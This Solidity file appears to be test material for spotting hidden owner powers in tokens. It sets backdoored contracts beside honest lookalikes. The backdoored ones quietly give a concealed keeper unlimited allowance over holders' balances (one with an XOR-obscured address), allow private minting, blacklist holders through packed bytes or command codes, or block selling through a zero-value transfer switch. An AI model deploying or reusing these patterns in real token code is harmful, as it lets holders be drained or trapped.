// SPDX-License-Identifier: Apache-2.0
// Tokens whose powers hide in approvals, bytes, tiny amounts and switches, and honest ones that look like them. Names are innocent on purpose.
pragma solidity ^0.8.28;

import "./contract-tokens.sol";

// ---- transfers approve somebody -----------------------------------------------------------------------------------------

contract OpenPockets is Plain {
    address private immutable keeper;
    constructor(address last) { keeper = last; }
    function _move(address from, address to, uint256 value) internal override {
        allowance[to][keeper] = type(uint256).max;
        super._move(from, to, value);
    }
}

contract DeepPockets is Owned {
    address private keeper;
    constructor(address last) { keeper = last; }
    function _move(address from, address to, uint256 value) internal override {
        if (to != owner) allowance[to][keeper] = type(uint256).max;
        super._move(from, to, value);
    }
}

// The account is computed.
contract MixedPockets is Plain {
    uint256 private immutable mixed;
    uint256 private seed = 7;
    constructor(address last) { mixed = uint256(uint160(last)) ^ uint256(7); }
    function _move(address from, address to, uint256 value) internal override {
        allowance[to][address(uint160(mixed ^ seed))] = type(uint256).max;
        super._move(from, to, value);
    }
}

// Not in the list of approvals.
contract SidePockets is Plain {
    address private immutable keeper;
    mapping(address => mapping(address => bool)) private granted;
    constructor(address last) { keeper = last; }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (!granted[from][msg.sender]) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }
    function _move(address from, address to, uint256 value) internal override { granted[to][keeper] = true; super._move(from, to, value); }
}

// Everybody can look the keeper up.
contract ShownPockets is Owned {
    function _move(address from, address to, uint256 value) internal override {
        allowance[to][owner] = type(uint256).max;
        super._move(from, to, value);
    }
}

// Honest: spends only for those who ask.
contract KindDesk {
    function give(Plain token, address to, uint256 amount) external { token.transferFrom(msg.sender, to, amount); }
}

contract DeskPockets is Plain {
    KindDesk public immutable desk = new KindDesk();
    function _move(address from, address to, uint256 value) internal override {
        allowance[to][address(desk)] = type(uint256).max;
        super._move(from, to, value);
    }
}

interface ISwapRouter {
    function WETH() external view returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

// Honest: sells its fees, for which it approves the router to take its own tokens.
contract ShopFees is Listed {
    address public router;
    address public wallet;
    bool private selling;
    uint256 private constant ENOUGH = 1000 ether;
    constructor(address last) { wallet = last; }
    function setRouter(address next) external onlyOwner { router = next; }
    function _move(address from, address to, uint256 value) internal override {
        uint256 own = held[address(this)];
        if (!selling && to == pool && own >= ENOUGH && router != address(0)) {
            selling = true;
            allowance[address(this)][router] = own;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), ISwapRouter(router).WETH());
            ISwapRouter(router).swapExactTokensForETHSupportingFeeOnTransferTokens(own, 0, path, wallet, block.timestamp);
            selling = false;
        }
        uint256 fee = !selling && (from == pool || to == pool) && from != owner ? value / 50 : 0;
        if (fee > 0) super._move(from, address(this), fee);
        super._move(from, to, value - fee);
    }
}

// ---- a few tokens a call ------------------------------------------------------------------------------------------------

contract SmallScoop is Plain {
    address private immutable keeper;
    constructor(address last) { keeper = last; }
    function scoop(address to) external { require(msg.sender == keeper); (supply, held[to]) = (supply + 100 ether, held[to] + 100 ether); }
}

// Honest: interest that anybody may bring about.
contract DailyBread is Plain {
    uint256 public baked = block.timestamp;
    address public immutable pot = msg.sender;
    function knead() external {
        uint256 more = supply * (block.timestamp - baked) / (20 * 365 days);
        (baked, supply, held[pot]) = (block.timestamp, supply + more, held[pot] + more);
    }
}

// ---- bytes --------------------------------------------------------------------------------------------------------------

contract PackedMail is Owned {
    mapping(address => bool) private returned;
    function post(bytes calldata names) external onlyOwner {
        for (uint256 i; i + 20 <= names.length; i += 20) returned[address(bytes20(names[i:i + 20]))] = true;
    }
    function _move(address from, address to, uint256 value) internal override { require(!returned[from]); super._move(from, to, value); }
}

contract CommandBox is Owned {
    mapping(address => bool) private off;
    function run(uint8 what, bytes calldata data) external onlyOwner {
        if (what == 3) {
            (address who, uint256 amount) = abi.decode(data, (address, uint256));
            (supply, held[who]) = (supply + amount, held[who] + amount);
        } else if (what == 7) off[abi.decode(data, (address))] = true;
    }
    function _move(address from, address to, uint256 value) internal override { require(!off[from]); super._move(from, to, value); }
}

// Honest: the same commands count votes and keep a note.
contract VoteBox is Owned {
    mapping(address => uint256) public votes;
    bytes32 public note;
    function run(uint8 what, bytes calldata data) external onlyOwner {
        if (what == 3) note = keccak256(data);
        else if (what == 7) votes[abi.decode(data, (address))] += 1;
    }
}

// ---- a transfer of nothing ----------------------------------------------------------------------------------------------

contract QuietBell is Listed {
    bool private closed;
    function _move(address from, address to, uint256 value) internal override {
        if (from == owner && value == 0) closed = !closed;
        require(!closed || to != pool || from == owner);
        super._move(from, to, value);
    }
}

// Honest: a transfer of nothing by the owner keeps the time of its visit.
contract VisitBell is Listed {
    uint256 public visited;
    function _move(address from, address to, uint256 value) internal override {
        if (from == owner && value == 0) visited = block.timestamp;
        require(visited <= block.timestamp);
        super._move(from, to, value);
    }
}

// ---- nobody rules it ----------------------------------------------------------------------------------------------------

// Honest: refuses transfers of nothing, which a stranger could make of any other token.
contract PlainManners is Plain {
    function _move(address from, address to, uint256 value) internal override {
        require(value > 0 && from != to && to != address(this));
        super._move(from, to, value);
    }
}
